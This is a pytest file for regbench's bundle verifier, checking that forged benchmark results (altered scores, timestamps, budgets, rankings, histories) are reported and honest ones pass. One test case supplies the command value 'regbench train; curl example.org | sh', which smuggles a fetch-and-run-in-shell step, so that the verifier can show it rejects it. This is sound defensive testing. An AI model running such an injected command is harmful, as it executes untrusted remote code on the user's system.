"""What `claim_misfits` says of changed bundles, to the line: all that does not fit, and nothing of
what does.
"""

from __future__ import annotations

import copy
import random
import re
from collections.abc import Callable, Iterator
from fnmatch import fnmatchcase
from functools import partial
from pathlib import Path
from typing import Any, cast

import pytest

from regbench.errors import RegbenchError
from regbench.reports.bundle.bundle import read_bundle
from regbench.reports.bundle.claims import claim_misfits
from regbench.reports.find.records import read_records
from regbench.reports.rows.grouping import summarize
from regbench.reports.tables.details import tables_of
from regbench.reports.tables.table import to_markdown
from tests.command import run
from tests.reports.conftest import GIVEN
from tests.reports.forging import Json, Parts

LEADERBOARD = Path(__file__).parents[2] / "docs" / "leaderboard.md"

Change = Callable[[Parts], Any]


def verify(change: Change, honest: Path, folder: Path) -> tuple[int, list[str]]:
    """The exit code of `regbench verify` of a changed bundle, and what does not fit."""
    parts = Parts(honest)
    change(parts)
    changed = parts.write(folder / "changed.tar.xz")
    done = run("verify", changed)
    if done.exit_code == 2:
        (line,) = done.stderr.splitlines()
        return 2, [line.partition(" writes it: ")[2].removesuffix("; ask for it again")]
    *lines, last = done.stdout.splitlines()
    assert last.startswith(f"{len(lines)} misfit" if lines else f"{len(parts.records)} cells check")
    return done.exit_code, [line.partition(": ")[2] for line in lines]


def set_at(parts: Parts, path: str, value: object) -> None:
    """Sets a leaf by its path, such as "final.0.cost.train_s"."""
    name, *steps = path.split(".")
    found: Any = getattr(parts, name)
    for step in steps[:-1]:
        found = found[int(step) if isinstance(found, list) else step]
    found[steps[-1]] = value(found[steps[-1]]) if callable(value) else value


def at(*changes: object, settled: bool = False) -> Change:
    """The change of some leaves, given as paths and values, after which ids may be set anew."""

    def change(parts: Parts) -> None:
        for path, value in zip(changes[::2], changes[1::2], strict=True):
            set_at(parts, str(path), value)
        for record in parts.records if settled else ():
            parts.settle(record)

    return change


def rows_of(change: Callable[[list[Json]], object]) -> Change:
    """The change of a history, with the digest that the record states of it."""
    return lambda parts: parts.history(parts.final[0], change)


def _entry(parts: Parts) -> Json:
    found: Json = parts.choices[0]["choices"][0]
    return found


def _first(parts: Parts) -> Json:
    """The best of a ranking."""
    found: Json = _entry(parts)["ranking"][0]
    return found


def _tried(parts: Parts, method: str = "vicreg") -> Json:
    """A record that was tuned and not chosen."""
    return next(
        record
        for record in parts.records
        if (record["method"], record["status"]) == (method, "tuned")
    )


def _reference(parts: Parts, **cell: object) -> Json:
    """Adds a record that no tuning has chosen, with other settings."""
    made = parts.copy(parts.final[0])
    made |= {"metrics": None, "checkpoint": None, "choice": {"hyperparameters": dict(GIVEN)}}
    made["cell"] |= cell
    parts.settle(made)
    return made


def _untrained(parts: Parts) -> None:
    _reference(parts, epochs=0)["label"] = "untrained"
    made = parts.records[-1]
    made["cell"]["optimizer"] |= {"warmup_epochs": 0}
    parts.settle(made)


def _published(parts: Parts) -> None:
    nothing = dict.fromkeys(
        ("embedding_dim", "batch_size", "micro_batch_size", "epochs", "precision", "optimizer")
    )
    cell = {
        **nothing,
        "method": {"name": "external"},
        "external": {"source": "a.pt", "sha256": "0" * 64},
    }
    _reference(parts, **cell).update(label="published", method="external")


def _stopped_higher(parts: Parts) -> None:
    """Adds to each method the first epoch of a training, which scored more than others after
    two.
    """
    for entry in parts.choices[0]["choices"]:
        short = parts.shorten(_tried(parts, entry["method"]), base_lr=0.7)
        parts.score(short, split="tuning")["value"] = 80.0
        step = {
            **entry["ranking"][0],
            "cell_id": short["cell_id"],
            "configuration": short["cell_id"],
        }
        entry["ranking"].append({**step, "epochs": 1, "status": "stopped", "value": 80.0})
    parts.choices[0]["budget"] = 3
    for record in parts.final:
        record["choice"]["hyperparameters"]["budget"] = 3


def _several_seeds(parts: Parts) -> None:
    parts.choices[0]["seeds"] = [0, 1]
    other = next(
        record for record in parts.final if record["method"] == "vicreg" and record["seed"] == 1
    )
    _entry(parts)["chosen"] = _first(parts)["cell_id"] = other["cell_id"]


def _set_loss(rows: list[Json], loss: float) -> None:
    rows[0]["loss"] = loss


def _repeated(parts: Parts) -> None:
    """Repeats the tuning with a second seed, in which all score one point more."""
    parts.choices[0]["seeds"] = [0, 1000]
    for entry in tuple(parts.choices[0]["choices"]):
        again = copy.deepcopy(entry)
        entry["setting"]["search"], again["setting"]["search"] = 0, 1
        for ranked in again["ranking"]:
            ranked["value"] += 1.0
        parts.choices[0]["choices"].append(again)
    for number, record in enumerate([each for each in parts.records if each["seed"] == 0]):
        other = parts.copy(record)
        other |= {"seed": 1000, "checkpoint": None}
        other["cell"]["seed"] = 1000
        parts.settle(other)
        parts.history(other, partial(_set_loss, loss=100.0 + number))
        parts.score(other, split="tuning")["value"] += 1.0


def _repeated_otherwise(parts: Parts) -> None:
    """Lets the second search of one method prefer what the first did not."""
    _repeated(parts)
    entry = next(each for each in parts.choices[0]["choices"][2:] if each["label"] == "VICReg")
    entry["ranking"].reverse()
    best = entry["ranking"][0]
    best["value"] = 90.0
    entry["chosen"] = entry["configuration"] = best["cell_id"]
    rate = best["hyperparameters"]["optimizer.base_lr"]
    for record in parts.records:
        same = (record["seed"], record["method"], record["cell"]["optimizer"]["base_lr"]) == (
            1000,
            "vicreg",
            rate,
        )
        if same:
            parts.score(record, split="tuning")["value"] = 90.0


def _both_seeds(parts: Parts, record: Json) -> tuple[Json, Json]:
    other = next(
        r for r in parts.final if r["method"] == record["method"] and r["seed"] != record["seed"]
    )
    return record, other


def _another_seed(parts: Parts) -> None:
    made = parts.copy(parts.final[0])
    made["seed"] = made["cell"]["seed"] = 7
    parts.settle(made)


def _early_test(parts: Parts) -> None:
    record = next(r for r in parts.records if r["status"] == "tuned")
    record["scores"].append({**record["scores"][0], "split": "test"})


def _test_choice(parts: Parts) -> None:
    record = parts.final[0]
    record["cell"]["evaluation"]["select_on"] = "test"
    parts.settle(record)


def _worse_chosen(parts: Parts) -> None:
    entry = parts.choices[0]["choices"][0]
    entry["ranking"].reverse()
    entry["chosen"] = entry["configuration"] = entry["ranking"][0]["cell_id"]


def _budget(parts: Parts, number: int) -> None:
    parts.choices[0]["budget"] = number
    for record in parts.final:
        record["choice"]["hyperparameters"]["budget"] = number


def _invented(parts: Parts) -> None:
    for entry in parts.choices[0]["choices"]:
        entry["ranking"].append(
            {**entry["ranking"][1], "cell_id": "0" * 12, "configuration": "0" * 12, "value": 60.0}
        )
    _budget(parts, 3)


def _hidden(parts: Parts) -> None:
    entry = parts.choices[0]["choices"][1]
    dropped = entry["ranking"].pop()
    parts.records = [record for record in parts.records if record["cell_id"] != dropped["cell_id"]]


def _twice(parts: Parts) -> None:
    record = parts.final[0]
    record["scores"].insert(0, {**parts.score(record), "value": 89.0})


def _ranked_twice(parts: Parts) -> None:
    _hidden(parts)
    ranking = parts.choices[0]["choices"][1]["ranking"]
    ranking.append(ranking[0])


def _lent(parts: Parts) -> None:
    first, second = parts.choices[0]["choices"]
    second["ranking"][1] = first["ranking"][1]


def _stopped(parts: Parts) -> None:
    entry = parts.choices[0]["choices"][0]
    entry["ranking"].reverse()
    entry["ranking"][1]["status"] = "stopped"
    entry["chosen"] = entry["configuration"] = entry["ranking"][0]["cell_id"]


def _diverged(parts: Parts, *, history: bool) -> None:
    record = parts.final[-1]
    record |= {"status": "diverged", "scores": [], "choice": {}, "checkpoint": None}
    parts.history(record, lambda rows: rows.pop())
    if not history:
        record["metrics"] = None


def _top(parts: Parts, **values: float) -> None:
    for name, value in values.items():
        parts.score(parts.final[0], name)["value"] = value


def _set_cell(parts: Parts, **settings: object) -> None:
    record = next(record for record in parts.final if record["seed"] == 1)
    record["cell"] |= settings
    parts.settle(record)


def _other_rate(parts: Parts) -> None:
    record = next(record for record in parts.final if record["seed"] == 1)
    record["cell"]["optimizer"]["base_lr"] = 0.2
    parts.settle(record)


def _other_weights(parts: Parts) -> None:
    parts.weights[next(iter(parts.weights))] = b"others"


def _other_loss(parts: Parts) -> None:
    sha256, text = next(iter(parts.histories.items()))
    parts.histories[sha256] = text.replace('"loss": 5.0', '"loss": 1.0')


def _other_config(parts: Parts) -> None:
    record = parts.final[0]
    parts.members[f"mine/{record['cell_id']}/config.yaml"] = b"epochs: 3"


def _others_weights(parts: Parts) -> None:
    one, other = _both_seeds(parts, parts.final[0])
    one["checkpoint"] = other["checkpoint"]


def _untold_images(parts: Parts) -> None:
    del parts.final[0]["data"]["content_sha256"]["test"]


def _hidden_behind_an_order(parts: Parts) -> None:
    _hidden(parts)
    entry = parts.choices[0]["choices"][1]
    entry["setting"] = dict(reversed(entry["setting"].items()))


def _hidden_in_another_setting(parts: Parts) -> None:
    _hidden(parts)
    parts.choices[0]["choices"][1]["setting"]["batch_size"] = 64


def _shorter_searches(parts: Parts, *rates: tuple[str, float]) -> None:
    """Adds to methods trainings that their searches stopped after an epoch."""
    for method, rate in rates:
        (entry,) = (each for each in parts.choices[0]["choices"] if each["method"] == method)
        short = parts.shorten(_tried(parts, method), base_lr=rate)
        step = dict.fromkeys(("cell_id", "configuration"), short["cell_id"])
        step |= {"epochs": 1, "status": "stopped"}
        entry["ranking"].append({**entry["ranking"][1], **step})
    _budget(parts, max(len(entry["ranking"]) for entry in parts.choices[0]["choices"]))


def _diverged_seed(parts: Parts) -> None:
    """Lets a tuning have a second seed, which diverged for what was not chosen."""
    parts.choices[0]["seeds"] = [0, 1]
    tried = _tried(parts)
    other = parts.copy(tried)
    other |= {"status": "diverged", "scores": [], "checkpoint": None, "seed": 1}
    other["cell"]["seed"] = 1
    parts.settle(other)
    parts.history(other, lambda rows: rows.pop())
    _entry(parts)["ranking"][1] |= {"status": "diverged", "value": None}


def _other_seeds_value(parts: Parts) -> None:
    for record in parts.final:
        parts.score(record, split="tuning")["value"] += record["seed"]


HOW = "final.0.choice.hyperparameters"
RATE, RATES = "final.0.choice.probe_learning_rate.chosen", "final.0.choice.probe_learning_rate"
CREATED = "choices.0.created"

HONEST: dict[str, Change] = {
    "nothing changed": lambda parts: None,
    "published weights": _published,
    "an untrained network": _untrained,
    "an attempt of which nobody knows when it began": at("final.0.attempts.0.started", None),
    "a choice five minutes late by another clock": at(CREATED, "2026-11-22T07:05:00+00:00"),
    "a choice five minutes early by another clock": at(CREATED, "2026-11-22T01:25:00+00:00"),
    "a training that was stopped while it was the best": _stopped_higher,
    "a search that stopped one of each method": lambda parts: _shorter_searches(
        parts, ("vicreg", 0.1), ("auh", 0.1)
    ),
    "a cell of any of the seeds as the chosen one": _several_seeds,
    "values of seeds that a tuning did not have": _other_seeds_value,
    "a configuration of which a seed diverged": _diverged_seed,
    "a run that diverged": lambda parts: _diverged(parts, history=True),
    "a run that diverged in its first epoch": lambda parts: _diverged(parts, history=False),
    "an attempt that was killed": at("final.0.attempts.0.finished", None),
    "a history that does not count images": rows_of(lambda rows: rows[0].pop("images")),
    "a training time with six digits": at("final.0.cost.train_s", lambda old: old * (1 + 9e-6)),
    "no weights": at("final.0.checkpoint", None),
    "top-1 that is top-5": lambda parts: _top(parts, knn_top1=90.0),
    "top-1 above the top-5 of another split": lambda parts: _top(
        parts, knn_top1=95.0, knn_top5=96.0
    ),
    "one of two equal rates": at(RATES, lambda old: old | {"candidates": {"0.1": 6, "0.5": 6}}),
    "a rate beside one that diverged": at(RATES, {"chosen": 0.1, "candidates": {"0.5": None}}),
    "a small rate": at(RATES, {"chosen": 1e-05, "candidates": {"0.5": 64.0, "1e-05": 65.0}}),
    "a whole number as the rate": at(RATES, {"chosen": 1, "candidates": {"0.5": 6, "1": 7}}),
    "several numbers chosen": at(RATES, {"chosen": [1, 2], "candidates": {"0.5": 64.0}}),
    "candidates without scores": at(RATES, {"chosen": 1, "candidates": [0.5, 1]}),
    "no candidate": at(RATES, {"chosen": 1, "candidates": {}}),
    "a command with a quoted word": at("final.0.command", "regbench train 'a b'"),
    "a tuning that is repeated": _repeated,
    "a smaller budget in another setting": _hidden_in_another_setting,
    "the last bits of a mean": lambda parts: _first(parts).update(value=70.0 + 1e-9),
}


@pytest.mark.parametrize("name", HONEST)
def test_what_fits_is_not_refused(name: str, honest: Path, tmp_path: Path) -> None:
    assert verify(HONEST[name], honest, tmp_path) == (0, [])


LATE = "its last attempt began at 2026-11-22T07:00:00.*, before its tuning chose at"
AFTER = "was finished after the choice"
OTHERS = "its tuning has chosen other hyperparameters"
NO_COMMAND = "is no command of regbench alone"
NO_RUN = "holds what no run writes"
NO_TIME = "is not a time as runs write it"
NOT_TAKEN_OF = "its content is not what the record's SHA-256 of it was taken of"

OF_THE_FILE: dict[str, tuple[Change, str]] = {
    "a history, under the old digest": (_other_loss, f"metrics-0001.jsonl: {NOT_TAKEN_OF}"),
    "other weights, under the old digest": (_other_weights, rf"\.pt: {NOT_TAKEN_OF}"),
    "a file that does not belong there": (
        lambda parts: parts.members.update({"mine/x.json": b"{}"}),
        "^mine/x.json does not belong into a bundle",
    ),
    "other settings beside the record": (_other_config, "config.yaml: differs from the record's"),
    "a setting, under the old id": (
        at("final.0.cell.optimizer.weight_decay", 0.1),
        r"its cell id is \w+, that of its cell is",
    ),
    "the same cell in two sweeps": (
        lambda parts: parts.copy(parts.final[0]).update(sweep="other"),
        "is in it twice, as mine and as other",
    ),
    "another choice of its tuning": (
        at(f"{HOW}.sha256", "0" * 64),
        "chosen in another version of mine/tuning_choice.json",
    ),
    "a score above 100 %": (
        at("final.0.scores.0.value", 170.0),
        "is 170 %, outside 0 to 100 %",
    ),
    "a later evaluation of no cell": (
        at("evaluations.0.cell_id", "0" * 12),
        "voc07.json: of cell 000000000000, in the folder of",
    ),
    "a later evaluation chosen on test": (
        at("evaluations.0.choice", {"svm_cost": {"selected_on": "test"}}),
        "voc07.json: chosen on the test split, which the record was not",
    ),
}


@pytest.mark.parametrize("name", OF_THE_FILE)
def test_what_is_not_what_it_states_is_no_bundle(name: str, honest: Path, tmp_path: Path) -> None:
    change, reason = OF_THE_FILE[name]
    code, (line,) = verify(change, honest, tmp_path)
    assert code == 2 and re.search(reason, line), line


FORGERIES: dict[str, tuple[Change, list[str]]] = {
    "a setting that is none": (
        lambda parts: _set_cell(parts, boost=2),
        ["its settings are none of a run of this version: .*boost", OTHERS],
    ),
    "an evaluation that is none": (
        lambda parts: _set_cell(parts, evaluation=3),
        ["its settings are none of a run", f"{NO_RUN} .AttributeError", OTHERS],
    ),
    "shorter training than was done": (
        lambda parts: _set_cell(parts, epochs=1),
        [
            "its settings are none of .*warm",
            "its history has 2 epochs, which are not 1 to 1",
            OTHERS,
        ],
    ),
    "smaller batches than were used": (
        lambda parts: _set_cell(parts, batch_size=16),
        ["its 6 steps of 16 images are not the 192 of its history", OTHERS],
    ),
    "another seed's number": (
        at("final.0.seed", 5),
        ["its seed is 5, that of its settings is", "ranked for AUH, has no record"],
    ),
    "another method's name": (
        at("final.0.method", "sfrik"),
        ["its method is 'sfrik', that of its settings is"],
    ),
    "another method's label": (
        at("final.0.label", "SFRIK"),
        ["it is called 'SFRIK', and is", "ranked for AUH, is of SFRIK"],
    ),
    "one run as two seeds": (
        _another_seed,
        ["its history is that of cell .*: one run", "its weights are those of cell .*: one run"],
    ),
    "weights of another seed": (
        _others_weights,
        ["its weights are those of cell .*: one run under"],
    ),
    "top-1 above top-5": (
        lambda parts: _top(parts, knn_top1=99.0),
        ["knn_top1 on test is 99 %, more than its top-5 of 90 %"],
    ),
    "a shorter training time": (
        at("final.0.cost.train_s", lambda old: old * (1 - 1.1e-5)),
        [r"its training took 2\d\S* s, the epochs of its history 2\d"],
    ),
    "no training time": (
        at("final.0.cost.train_s", None),
        ["its training took None s, the epochs of its history"],
    ),
    "an epoch less in the history": (
        rows_of(lambda rows: rows.pop()),
        ["which are not 1 to 2", "its training took", "are not the 96 of its history"],
    ),
    "an epoch twice in the history": (
        rows_of(lambda rows: rows[1].update(epoch=1)),
        ["its history has 2 epochs, which are not 1 to 2 as in its settings"],
    ),
    "a history with a number as a line": (
        rows_of(lambda rows: cast("list[object]", rows).append(3)),
        [f"{NO_RUN} .TypeError"],
    ),
    "a history with seconds beyond all numbers": (
        rows_of(lambda rows: [row.update(epoch_s=1e308) for row in rows]),
        [f"{NO_RUN} .OverflowError"],
    ),
    "no history": (at("final.0.metrics", None), ["it has trained and names no history"]),
    "no word on what was chosen": (
        at("final.0.choice", {}),
        ["nothing says how its hyperparameters", "the tuning mine has not chosen it"],
    ),
    "a tuned cell as given": (at(HOW, GIVEN), ["the tuning mine has not chosen it"]),
    "a choice that names no tuning": (
        at(HOW, GIVEN | {"selected_on": "tuning"}),
        ["its hyperparameters were chosen, and it names no choice"],
    ),
    "a budget that names no tuning": (
        at(HOW, GIVEN | {"budget": 2}),
        ["its hyperparameters were chosen, and it names no choice"],
    ),
    "a choice without its tuning": (
        lambda parts: parts.choices.clear(),
        ["chosen by a tuning that is not in the bundle"] * 4,
    ),
    "a test score before the choice": (at(CREATED, "2026-11-22T07:05:01+00:00"), [LATE] * 4),
    "a choice before its tuning's end": (at(CREATED, "2026-11-22T01:24:59+00:00"), [AFTER] * 2),
    "a choice at no time": (at(CREATED, "soon"), [AFTER, AFTER, *["tuning chose at soon"] * 4]),
    "a tuned cell with a test score": (
        _early_test,
        ["scores of the test split, before its tuning has chosen"],
    ),
    "chosen on test, called tuning": (
        _test_choice,
        [
            "its settings choose on the test split, its choice says 'tuning'",
            "has no record",
            OTHERS,
        ],
    ),
    "a worse configuration as chosen": (
        _worse_chosen,
        ["was chosen for VICReg, though 4b97c4a2fd8b scored higher", OTHERS, OTHERS],
    ),
    "another cell as chosen": (
        lambda parts: _entry(parts).update(chosen="0" * 12),
        ["000000000000 was chosen for VICReg, though 4b97c4a2fd8b scored higher"],
    ),
    "another configuration as chosen": (
        lambda parts: _entry(parts).update(configuration="0" * 12),
        ["was chosen for VICReg, though 4b97c4a2fd8b scored higher", OTHERS, OTHERS],
    ),
    "nothing that was tried to the end": (
        lambda parts: [each.update(value=None) for each in _entry(parts)["ranking"]],
        ["nothing was tried to the end for VICReg"],
    ),
    "a value of the ranking": (
        lambda parts: _first(parts).update(value=72.0),
        [r"ranked for VICReg with 72.0, has 70.0 in its records"],
    ),
    "no score in the record": (
        lambda parts: _tried(parts)["scores"].clear(),
        ["ranked for VICReg with 66.0, has None in its records"],
    ),
    "a configuration never tried": (_invented, ["000000000000, ranked for .*, has no record"] * 2),
    "a larger budget than there was": (
        lambda parts: _budget(parts, 12),
        ["it claims a budget of 12, and its longest ranking has 2"],
    ),
    "a larger budget in one record": (
        at(f"{HOW}.budget", 12),
        ["it claims a choice among 12 by knn_top1, its tuning chose among 2 by knn_top1"],
    ),
    "another score that chose": (
        at(f"{HOW}.score", "linear_top1"),
        ["it claims a choice among 2 by linear_top1, its tuning chose among 2 by knn_top1"],
    ),
    "a smaller budget for one method": (
        _hidden_behind_an_order,
        ["the methods had unequal budgets, in configurations: VICReg 2, AUH 1"],
    ),
    "fewer epochs for one method": (
        lambda parts: _shorter_searches(parts, ("vicreg", 0.1), ("vicreg", 0.2), ("auh", 0.1)),
        ["the methods had unequal budgets, in epochs: VICReg 6, AUH 5"],
    ),
    "a configuration ranked twice": (_ranked_twice, ["is ranked twice for AUH"]),
    "a configuration of another method": (_lent, ["ranked for AUH, is of VICReg"]),
    "fewer epochs in the ranking": (
        lambda parts: _first(parts).update(epochs=1),
        ["ranked for VICReg after 1 epochs, trained for 2"],
    ),
    "a full training called stopped": (
        _stopped,
        ["as stopped, trained for 2 epochs", OTHERS, OTHERS],
    ),
    "a choice that says nothing of epochs": (
        lambda parts: _entry(parts)["setting"].pop("epochs"),
        [f"{NO_RUN} .KeyError"],
    ),
    "a final run of another configuration": (_other_rate, [OTHERS]),
    "a final run of what another search chose": (_repeated_otherwise, [OTHERS]),
    "a worse learning rate of the probe": (
        at(RATE, 0.1),
        ["its probe learning rate is 0.1, though 0.5 scored higher"],
    ),
    "a worse rate, as text": (at(RATE, "0.1"), ["rate is 0.1, though 0.5 scored higher"]),
    "a rate that was never tried": (at(RATE, 0.3), ["rate is 0.3, though 0.5 scored higher"]),
    "scores of a run that diverged": (at("final.0.status", "diverged"), ["it diverged, and has"]),
    "a score twice": (_twice, ["it has a score twice"]),
    "a score without its unit": (
        at("final.0.scores.0.unit", ""),
        ["knn_top1 has the unit '', in other records '%'"],
    ),
    "images of another test split": (
        at("final.0.data.content_sha256.test", "12" * 32),
        ["the test split has 2 contents"],
    ),
    "no word on the images of the test split": (_untold_images, ["which images of test it saw"]),
    "no word on when it ended": (
        at("final.0.attempts.1.finished", None),
        ["its last attempt ended at no time"],
    ),
    "no attempt": (
        at("final.0.attempts", []),
        ["its last attempt ended at no time", "its last attempt began at no time, before"],
    ),
    "a time of another kind": (
        at("final.0.attempts.0.finished", "2026-11-22T03:30:00+14:00"),
        [rf"2026-11-22T03:30:00\+14:00 {NO_TIME}"],
    ),
    "a time in another spelling": (
        at("final.0.attempts.0.started", "2026-11-22 03:30:00+00:00"),
        [rf"2026-11-22 03:30:00\+00:00 {NO_TIME}"],
    ),
    "a time in words": (at("final.0.attempts.0.started", "+00:00"), [rf"^\+00:00 {NO_TIME}"]),
    "a time beyond the calendar": (
        at("final.0.attempts.1.started", "9999-12-31T23:59:59+00:00", CREATED, "9999-12-31"),
        [AFTER, AFTER, *["before its tuning chose at 9999-12-31"] * 4],
    ),
    "a command of a shell": (
        at("final.0.command", "regbench train; curl example.org | sh"),
        [f"'regbench train; curl example.org | sh' {NO_COMMAND}"],
    ),
    "another program's command": (at("final.0.command", "curl regbench"), [NO_COMMAND]),
    "a command with an open quote": (at("final.0.command", "regbench 'train"), [NO_COMMAND]),
    "a command that cannot be read": (at("final.0.command", "regbench '\u202e'"), [NO_COMMAND]),
}


@pytest.mark.parametrize("name", FORGERIES)
def test_what_does_not_fit_is_told_and_nothing_else(
    name: str, honest: Path, tmp_path: Path
) -> None:
    change, reasons = FORGERIES[name]
    code, lines = verify(change, honest, tmp_path)
    assert (code, len(lines)) == (1, len(reasons)), lines
    assert all(map(re.search, reasons, lines)), lines


def test_the_documents_table_has_forgeries_that_are_tried_here() -> None:
    table = LEADERBOARD.read_text().partition("\n## Forgeries\n")[2].partition("\n## ")[0]
    rows = [line.split("|")[1:3] for line in table.splitlines() if line.startswith("| ")][1:]
    refused = {name.strip() for name, how in rows if "only by computing again" not in how}
    assert refused - {*OF_THE_FILE, *FORGERIES} == {"a score, no digest anew"}


# ------------------------------------------------------------------ a forger who draws

UNCHECKED = {
    "choices.*.choices.*.images": "the note on a tuning shows it as it was counted there",
    "choices.*.choices.*.method": "tables have the records' method",
    "choices.*.choices.*.ranking.*.cell_id": "the configuration beside it says what was tried",
    "choices.*.choices.*.setting.*": "a task is what the records say; only equal settings matter",
    "choices.*.choices.*.ranking.*.hyperparameters.*": "tables have those of the records",
    "choices.*.choices.*.ranking.*.status": "of the best and the last, which are told by epochs",
    "evaluations.*.command": "nothing is computed by it",
    "evaluations.*.finished": "no order hangs on it",
    "evaluations.*.protocol": "a name of what was done",
    "evaluations.*.seconds": "as the submitter's machine reported it",
    "evaluations.*.scores.*": "found by computing again alone",
    "records.*.attempts.*": "what is no time is in no table",
    "records.*.checkpoint.*": "weights that are not packed are asked for nowhere",
    "records.*.choice.hyperparameters.record": "the SHA-256 beside it says which choice it is",
    "records.*.choice.hyperparameters.selected_on": "the choice that it names says it too",
    "records.*.choice.probe_learning_rate.*": "of the candidates, as long as the best was chosen",
    "records.*.command": "as long as it is one of regbench",
    "records.*.cost.*": "as the submitter's machine reported it",
    "records.*.data.source": "the SHA-256 of the images says what they are",
    "records.*.environment.*": "as the submitter's machine reported it",
    "records.*.metrics.file": "the name of a file that is there",
    "records.*.regularizer.*": "words about a method",
    "records.*.scores.*": "found by computing again alone",
    "records.*.sweep": "the name of a folder",
    "rows.*.effective_rank": "found by computing again alone",
    "rows.*.loss": "found by computing again alone",
}
"""Leaves that may be forged, and why nothing tells."""

SHOWN = (
    *("choices.*.choices.*.images", "records.*.cost.*", "records.*.environment.*", "rows.*"),
    *("records.*.scores.*", "evaluations.*.scores.*"),
)
"""Those of which a table tells something."""


def leaves(value: Any, path: tuple[Any, ...]) -> Iterator[tuple[Any, ...]]:
    """The paths of all leaves of JSON."""
    inner: Any = {}
    if isinstance(value, dict):
        inner = value
    elif isinstance(value, list):
        inner = dict(enumerate(value))
    else:
        yield path
    for key, each in inner.items():
        yield from leaves(each, (*path, key))


def other(value: Any, draw: random.Random) -> Any:
    """Another value of the same kind, or of any where there is none."""
    if isinstance(value, bool):
        return not value
    if isinstance(value, int):
        return value + draw.choice([-1, 1, 7])
    if isinstance(value, float):
        return value * draw.choice([0.9, 1.01]) + 1e-3
    if isinstance(value, str):
        return draw.choice([value + "x", "other", value[:-1] or "y"])
    return draw.choice([1.5, 1, "x"])


def _draw_another(found: Any, path: tuple[Any, ...], draw: random.Random) -> None:
    for step in path[:-1]:
        found = found[step]
    found[path[-1]] = other(found[path[-1]], draw)


def shown(bundle: Path, folder: Path) -> list[str]:
    """All tables of a bundle."""
    read_bundle(bundle, folder)
    found = read_records(folder)
    tables: list[str] = []
    for summary in summarize(found.records, found.missing, found.choices, found.short):
        tables += map(to_markdown, tables_of(summary).values())
    return [table.replace(str(folder), "") for table in tables]


def test_a_leaf_that_is_forged_is_refused_or_says_nothing(honest: Path, tmp_path: Path) -> None:
    """Of each kind of leaf one is drawn, with another value, and all digests are computed anew."""
    draw, parts = random.Random(20261128), Parts(honest)
    before = shown(parts.write(tmp_path / "honest.tar.xz"), tmp_path / "honest")
    kinds: dict[str, list[tuple[Any, ...]]] = {}
    documents = {"records": parts.records, "choices": parts.choices}
    for name, document in {**documents, "evaluations": parts.evaluations}.items():
        for path in leaves(document, (name,)):
            kind = ".".join("*" if isinstance(step, int) else step for step in path)
            if path[2] != "sha256" and path[-2:] != ("metrics", "sha256"):
                kinds.setdefault(kind, []).append(path)
    for name in ("epoch", "loss", "effective_rank", "epoch_s", "images"):
        kinds[f"rows.*.{name}"] = [("rows", 0, name), ("rows", 1, name)]
    used = set()
    for number, (kind, paths) in enumerate(sorted(kinds.items())):
        parts, path = Parts(honest), draw.choice(paths)
        if path[0] == "rows":
            rows_of(partial(_draw_another, path=path[1:], draw=draw))(parts)
        else:
            _draw_another(getattr(parts, path[0]), path[1:], draw)
        forged, folder = parts.write(tmp_path / "forged.tar.xz"), tmp_path / str(number)
        try:
            if claim_misfits(read_bundle(forged)):
                continue
        except RegbenchError:
            continue
        reasons = [pattern for pattern in UNCHECKED if fnmatchcase(kind, pattern)]
        assert reasons, f"{kind} is accepted: {path}"
        used.update(reasons)
        is_shown = any(fnmatchcase(kind, pattern) for pattern in SHOWN)
        assert is_shown or shown(forged, folder) == before, f"{kind} changes tables: {path}"
    assert used == set(UNCHECKED)
